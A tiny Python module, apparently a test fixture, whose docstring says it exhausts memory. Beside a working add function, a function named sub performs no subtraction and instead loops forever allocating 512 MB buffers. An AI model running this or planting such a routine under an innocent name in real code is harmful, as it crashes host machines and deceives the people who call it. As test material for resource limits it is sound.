"""Allocates far more memory than the machine has."""
def add(a, b):
    return a + b


def sub(a, b):
    hoard = []
    while True:
        hoard.append(bytearray(512 * 1024 * 1024))
